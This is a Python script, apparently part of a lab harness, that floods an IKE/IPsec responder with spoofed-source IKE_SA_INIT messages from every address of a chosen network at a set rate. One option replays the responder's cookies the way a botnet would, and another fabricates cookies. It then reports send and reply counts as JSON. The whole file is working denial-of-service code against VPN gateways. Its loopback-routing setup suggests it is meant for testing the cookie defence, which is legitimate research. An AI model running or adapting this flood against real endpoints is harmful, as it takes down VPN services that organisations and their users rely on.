#!/usr/bin/env python3
"""Sends first IKE messages from every address of a network, at a rate, until it is stopped; then says in a
line of JSON what it sent and got. The network must be routed to this host's lo. With --prove it returns the
cookies that it gets, as a botnet would, and goes no further. With --invent it makes cookies up.

  flood.py 10.77.0.0/16 198.51.100.1 --rate 3000 [--prove | --invent]
"""
import argparse
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from lab import ike  # noqa: E402
from lab.capture import SA_INIT  # noqa: E402

FIRST_PAYLOAD_AT, COOKIE_AT, IP_PKTINFO, IPV6_FREEBIND = 16, 36, 8, 78
TURN_S = 0.005


class Flood:
    def __init__(self, network, target, rate, prove, invent):
        self.network, self.target, self.rate, self.prove = network, target, rate, prove
        self.ipv6 = network.version == 6
        self.random = random.Random(1)
        self.counts = {"sent": 0, "cookies": 0, "returned": 0, "answered": 0}
        payloads = [(ike.SA, ike.proposal(1, ike.IKE_SUITE)),
                    (ike.KE, struct.pack("!HH", 31, 0) + self.random.randbytes(32)),
                    (ike.NONCE, self.random.randbytes(32))]
        self.payloads = payloads
        invented = [ike.notify(ike.COOKIE, self.random.randbytes(9))] if invent else []
        self.bare = ike.message(bytes(8), bytes(8), SA_INIT, ike.INITIATOR, 0, invented + payloads)[8:]
        self.socket = socket.socket(socket.AF_INET6 if self.ipv6 else socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        if self.ipv6:
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
            self.socket.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        else:
            self.socket.setsockopt(socket.IPPROTO_IP, IP_PKTINFO, 1)
        self.socket.bind(("::" if self.ipv6 else "0.0.0.0", 500))
        self.socket.setblocking(False)

    def send(self, data, source):
        if self.ipv6:
            info = (socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, struct.pack("16sI", source, 0))
        else:
            info = (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("i4s4s", 0, source, bytes(4)))
        try:
            self.socket.sendmsg([data], [info], 0, (self.target, 500))
        except (BlockingIOError, OSError):
            return False
        return True

    def begin(self):
        source = self.network[self.random.randrange(self.network.num_addresses)].packed
        self.counts["sent"] += self.send(self.random.randbytes(8) + self.bare, source)

    def answers(self):
        while True:
            try:
                data, info, _, _ = self.socket.recvmsg(2048, 256)
            except (BlockingIOError, OSError):
                return
            if len(data) < COOKIE_AT or data[FIRST_PAYLOAD_AT] != ike.NOTIFY:
                self.counts["answered"] += 1
                continue
            self.counts["cookies"] += 1
            if self.prove:
                first = [(ike.NOTIFY, data[32:])]  # the cookie's payload, which is all there is
                message = ike.message(data[:8], bytes(8), SA_INIT, ike.INITIATOR, 0, first + self.payloads)
                to = info[0][2]
                self.counts["returned"] += self.send(message, to[:16] if self.ipv6 else to[8:12])

    def run(self):
        start = time.monotonic()
        while self.running:
            due = (time.monotonic() - start) * self.rate
            while self.counts["sent"] < due and self.running:
                self.begin()
                if self.counts["sent"] % 64 == 0:
                    self.answers()
            self.answers()
            time.sleep(TURN_S)
        print(json.dumps({**self.counts, "seconds": time.monotonic() - start}), flush=True)

    running = True

    def stop(self, *_):
        self.running = False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("network", type=ipaddress.ip_network)
    parser.add_argument("target")
    parser.add_argument("--rate", type=float, default=1000)
    parser.add_argument("--prove", action="store_true")
    parser.add_argument("--invent", action="store_true")
    arguments = parser.parse_args()
    flood = Flood(arguments.network, arguments.target, arguments.rate, arguments.prove, arguments.invent)
    signal.signal(signal.SIGTERM, flood.stop)
    flood.run()


if __name__ == "__main__":
    main()
